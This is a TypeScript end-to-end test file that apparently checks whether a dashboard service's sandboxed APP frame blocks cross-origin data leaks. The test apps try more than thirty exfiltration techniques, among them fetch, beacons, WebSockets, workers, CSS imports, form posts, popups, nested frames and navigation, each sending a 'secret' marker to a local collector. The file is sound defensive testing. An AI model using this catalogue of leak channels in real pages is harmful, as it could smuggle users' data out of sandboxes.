import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoRows } from '../apps/server/test/warehouse.js';
import { hasChromium } from './browser.js';
import { closeAll, demoDashboardItems, e2eAccount, hostEventsNamed, hostPageHtml, mountEmbed, openHostPage, setUpEmbedStack } from './embed-harness.js';

interface ErrorEvent { message: string; context: string }

const HOST_PAGE = hostPageHtml({ embedStyle: 'width:1000px;height:800px' });

/** How long to wait for stray requests, once every positive signal is in and the collector answered the host. */
const SETTLE_MS = 500;

/**
 * An app that tries every way a page has to send data to another origin without replacing its own document, each
 * with its marker in the URL (`/<name>?d=secret`). It waits until the browser has settled the nested frames (its own
 * `frame-src 'none'` reports three refusals; two srcdoc children report back), then asks the bridge for data, and
 * only then shows what it tried: the list appearing means all of it ran and the bridge answered.
 */
function requestsApp(collector: string): string {
  return `
const url = (name) => ${JSON.stringify(collector)} + '/' + name + '?d=secret';
const tried = [];
const attempt = (name, run) => { try { run(url(name)); tried.push(name); } catch (e) { tried.push(name + ':' + e.name); } };
let refused = 0;
const framesRefused = new Promise((resolve) => document.addEventListener('securitypolicyviolation', (e) => {
  if (e.effectiveDirective === 'frame-src' && ++refused === 3) resolve();
}));
const reports = [];
const childrenReported = new Promise((resolve) => addEventListener('message', (e) => {
  if (typeof e.data === 'string' && e.data.startsWith('child:') && reports.push(e.data) === 2) resolve();
}));
const child = (script) => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + script + '<\\/script>'; document.body.append(f); };
const link = (rel, u, as) => { const l = document.createElement('link'); l.rel = rel; l.href = u; if (as) l.as = as; document.head.append(l); };
const style = (css) => { const s = document.createElement('style'); s.textContent = css; document.head.append(s); };
attempt('fetch', (u) => { fetch(u).catch(() => undefined); });
attempt('xhr', (u) => { const x = new XMLHttpRequest(); x.open('GET', u); x.send(); });
attempt('image', (u) => { new Image().src = u; });
attempt('written-image', (u) => document.body.insertAdjacentHTML('beforeend', '<img src="' + u + '">'));
attempt('css-url', (u) => { document.body.style.backgroundImage = 'url(' + u + ')'; });
attempt('css-import', (u) => style('@import url(' + u + ');'));
attempt('font-face', (u) => style('@font-face { font-family: leak; src: url(' + u + '); } body { font-family: leak; }'));
attempt('stylesheet', (u) => link('stylesheet', u));
attempt('prefetch', (u) => link('prefetch', u));
attempt('preload', (u) => link('preload', u, 'image'));
attempt('beacon', (u) => navigator.sendBeacon(u, 'secret'));
attempt('websocket', (u) => new WebSocket(u.replace(/^http/, 'ws')));
attempt('event-source', (u) => new EventSource(u));
attempt('worker', (u) => new Worker(u));
attempt('blob-worker', (u) => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(u) + ')'], { type: 'text/javascript' }))));
attempt('audio', (u) => { new Audio(u).play().catch(() => undefined); });
attempt('object', (u) => { const o = document.createElement('object'); o.data = u; document.body.append(o); });
attempt('popup', (u) => { window.open(u); });
attempt('form-post', (u) => {
  const f = document.createElement('form'); f.method = 'post'; f.action = u;
  const i = document.createElement('input'); i.name = 'd'; i.value = 'secret'; f.append(i); document.body.append(f); f.submit();
});
attempt('navigate-embed', (u) => { parent.location.href = u; });
attempt('navigate-host', (u) => { top.location.href = u; });
attempt('nested-frame', (u) => { const f = document.createElement('iframe'); f.src = u; document.body.append(f); });
attempt('data-frame', (u) => { const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<script>fetch(' + JSON.stringify(u) + ')<\\/script>'); document.body.append(f); });
attempt('child-navigates-itself', (u) => child('location.href = ' + JSON.stringify(u)));
attempt('child-navigates-app', (u) => child('try { parent.location.href = ' + JSON.stringify(u) + '; parent.postMessage("child:navigated", "*"); } catch (e) { parent.postMessage("child:" + e.name, "*"); }'));
attempt('child-fetch', (u) => child('fetch(' + JSON.stringify(u) + ').catch(() => undefined).then(() => parent.postMessage("child:fetched", "*"))'));
Promise.all([framesRefused, childrenReported]).then(() => svc.query({ measures: ['orders.count'] })).then((r) => {
  document.getElementById('count').textContent = String(r.rows[0][0]);
  document.getElementById('children').textContent = reports.sort().join(',');
  document.getElementById('tried').textContent = tried.join(',');
}, (e) => { document.getElementById('count').textContent = 'failed: ' + e.message; });
`;
}

/** The names requestsApp tries, in its order. */
const REQUESTS = ['fetch', 'xhr', 'image', 'written-image', 'css-url', 'css-import', 'font-face', 'stylesheet', 'prefetch', 'preload', 'beacon',
  'websocket', 'event-source', 'worker', 'blob-worker', 'audio', 'object', 'popup', 'form-post', 'navigate-embed', 'navigate-host', 'nested-frame',
  'data-frame', 'child-navigates-itself', 'child-navigates-app', 'child-fetch'];

/** The ways an app's code navigates its own frame; `u` is the collector's URL with the marker. */
const NAVIGATIONS: Record<string, string> = {
  'location-href': 'location.href = u;',
  'location-assign': 'location.assign(u);',
  'location-replace': 'location.replace(u);',
  'window-location': 'window.location = u;',
  'open-self': "window.open(u, '_self');",
  'anchor': "const a = document.createElement('a'); a.href = u; document.body.append(a); a.click();",
  'anchor-download': "const a = document.createElement('a'); a.href = u; a.download = 'rows.csv'; document.body.append(a); a.click();",
  'meta-refresh': "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + u; document.head.append(m);",
};

/**
 * An app that navigates its own frame by `name`: once the bridge answered (so it had mounted), or, `atOnce`, while
 * its document is still being written.
 */
function navigatingApp(collector: string, name: string, atOnce: boolean): string {
  const go = `const u = ${JSON.stringify(`${collector}/${name}?d=secret`)}; ${NAVIGATIONS[name.replace(/-at-once$/, '')]}`;
  return atOnce ? go : `svc.query({ measures: ['orders.count'] }).then(() => setTimeout(() => { ${go} }, 0));`;
}

const appItem = (publicId: string, script: string) => ({
  ref: `wb-${publicId}`, type: 'WORKBOOK', name: publicId, createdBy: 'alice',
  dashboard: {
    publicId, status: 'published', allowEmbed: true, title: publicId,
    config: { kind: 'APP', app: { html: `<p id="count">…</p><p id="children"></p><p id="tried"></p><script>${script}</script>` } },
  },
});

const suite = hasChromium ? describe : describe.skip;

/**
 * Issue 18 (an independent probe's finding 3): an APP dashboard's code runs in svc's app frame and must not be able to
 * send data to another origin. A second local origin, the collector, records every request (and WebSocket upgrade) it
 * gets: it must get none with a marker. Not covered, because svc cannot close them in Chromium (docs/security.md):
 * the TCP connection, and so the DNS lookup, that Chromium makes to the target of a frame navigation it refuses, and
 * WebRTC's STUN/TURN traffic.
 */
suite('the APP sandbox in Chromium', () => {
  let collector: Server;
  let collectorOrigin: string;
  const received: string[] = [];
  let controls = 0;
  const { orders } = demoRows();
  const navigations = [...Object.keys(NAVIGATIONS), 'location-href-at-once'];

  beforeAll(async () => {
    collector = createServer((request, response) => {
      received.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('collected');
    });
    // Node hands a WebSocket handshake to 'upgrade', not 'request'.
    collector.on('upgrade', (request, socket: { destroy(): void }) => {
      received.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', () => resolve()));
    collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  });

  afterAll(() => closeAll(collector));

  const stack = setUpEmbedStack({
    page: HOST_PAGE,
    account: (host) => {
      const apps = [
        appItem('evil-requests', requestsApp(collectorOrigin)),
        ...navigations.map((name) => appItem(`evil-${name}`, navigatingApp(collectorOrigin, name, name.endsWith('-at-once')))),
        appItem('evil-app-frame-again', "svc.query({ measures: ['orders.count'] }).then(() => { location.href = '/embed/app-frame?d=secret'; });"),
      ];
      return e2eAccount([host.origin], { items: [...demoDashboardItems(), ...apps] });
    },
    browser: { timeout: 10_000 },
  });

  async function mountApp(publicId: string): Promise<{ page: Page; embed: Frame }> {
    const page = await openHostPage(stack.browser.context, `${stack.host.origin}/`);
    const embed = await mountEmbed(page, { baseUrl: stack.svc.origin, surface: 'dashboard', publicId }, { record: ['dashboard-loaded', 'error'] });
    return { page, embed };
  }

  /**
   * Called once the test's positive signals are in: the host page makes its own request to the collector, which has
   * answered it when this returns, so the browser's network stack got past everything started before; then a
   * bounded settle for a request already on its way. Returns what arrived with a marker.
   */
  async function leaked(page: Page): Promise<string[]> {
    const control = `/control?n=${++controls}`;
    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => undefined), `${collectorOrigin}${control}`);
    expect(received).toContain(`GET ${control}`);
    await page.waitForTimeout(SETTLE_MS);
    return received.filter((line) => line.includes('secret'));
  }

  it('sends nothing to another origin by requests, nested frames, popups, forms or navigating its parents, and the bridge still answers', async () => {
    const { page, embed } = await mountApp('evil-requests');
    const appFrame = () => page.frames().find((f) => f.url().endsWith('/embed/app-frame'));
    await expect.poll(() => appFrame()?.locator('#tried').innerText() ?? '', { timeout: 20_000 }).not.toBe('');
    const app = appFrame()!;
    expect(await app.locator('#count').innerText(), 'the bridge answered stack.svc.query').toBe(String(orders.length));
    expect((await app.locator('#tried').innerText()).split(',').map((entry) => entry.split(':')[0])).toEqual(REQUESTS);
    // The sandbox refused the child's navigation of the app frame; the child's own fetch was refused by the CSP it inherits.
    expect(await app.locator('#children').innerText()).toBe('child:SecurityError,child:fetched');
    await expect.poll(() => hostEventsNamed(page, 'dashboard-loaded'), { timeout: 10_000 }).toHaveLength(1);
    expect(await leaked(page)).toEqual([]);
    expect(await hostEventsNamed(page, 'error')).toEqual([]);
    expect(await embed.locator('iframe.app-frame').count(), 'the app keeps its frame').toBe(1);
    await page.close();
  });

  it.each(navigations)('refuses the app frame\'s own navigation by %s before any request leaves, and removes the frame', async (name) => {
    const { page, embed } = await mountApp(`evil-${name}`);
    // Either the embed saw the browser refuse the navigation (its frame-src) and told the host, or the request arrived.
    const settled = async () => (await hostEventsNamed(page, 'error')).length > 0 || received.some((line) => line.includes(`/${name}?`));
    await expect.poll(settled, { timeout: 15_000 }).toBe(true);
    expect(received.filter((line) => line.includes('secret'))).toEqual([]);
    const errors = await hostEventsNamed(page, 'error') as ErrorEvent[];
    expect(errors.map((e) => e.context)).toEqual(['app-navigation']);
    const [error] = errors;
    expect(error!.message).toContain(collectorOrigin);
    expect(error!.message, 'a refused navigation names an origin, never the path or query').not.toContain('secret');
    await expect.poll(() => embed.locator('iframe.app-frame').count()).toBe(0);
    expect(await embed.getByRole('alert').innerText()).toContain(`its app tried to navigate to ${collectorOrigin}`);
    if (!name.endsWith('-at-once')) expect(await hostEventsNamed(page, 'dashboard-loaded'), 'it had mounted before navigating').toHaveLength(1);
    expect(await leaked(page)).toEqual([]);
    await page.close();
  });

  it('gives a new document in the app frame (a navigation to svc\'s own app frame) no source, and removes the frame', async () => {
    const { page, embed } = await mountApp('evil-app-frame-again');
    // svc's own origin passes frame-src 'self'; the app frame's second frame-ready is what gives the navigation away.
    await expect.poll(async () => (await hostEventsNamed(page, 'error') as ErrorEvent[]).map((e) => e.context), { timeout: 15_000 }).toEqual(['app-navigation']);
    expect((await hostEventsNamed(page, 'error') as ErrorEvent[])[0]!.message).toContain('svc\'s app frame again');
    await expect.poll(() => embed.locator('iframe.app-frame').count()).toBe(0);
    expect(await hostEventsNamed(page, 'dashboard-loaded')).toHaveLength(1);
    await page.close();
  });
});
